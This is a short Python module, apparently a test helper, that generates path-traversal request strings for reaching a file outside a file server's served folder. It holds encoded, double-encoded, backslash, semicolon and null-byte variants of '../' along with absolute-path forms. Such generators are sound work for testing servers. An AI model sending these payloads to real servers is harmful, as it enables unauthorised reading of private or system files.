"""Spellings of a path that a careless file server follows out of its folder; pure."""

from __future__ import annotations

import posixpath
from urllib.parse import quote

_UP = "../"
_SPELLINGS = (
    "../",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "..%5c",
    "..\\",
    "....//",
    "..;/",
)


def tricks(folder: str, file: str, inside: str) -> list[str]:
    """Request paths that lead from a served folder to a file outside it, if they are believed.

    Args:
        folder: the folder that is served, absolute.
        file: the file that must not be reached, absolute.
        inside: a path of a file that is served, relative to the folder.
    """
    relative = posixpath.relpath(file, folder)
    ups, rest = relative.count(_UP), quote(relative.replace(_UP, ""))
    out = [f"/{spelling * ups}{rest}" for spelling in _SPELLINGS]
    depth = inside.count("/")
    through = f"/{posixpath.dirname(inside)}/{_UP * (ups + depth)}{rest}"
    absolute = quote(file)
    return [
        *out,
        through,
        f"/{absolute}",
        f"/%2f{absolute.lstrip('/')}",
        f"/{_UP * ups}{rest}%00.png",
        f"/{inside}%00/{_UP * (ups + depth + 1)}{rest}",
    ]
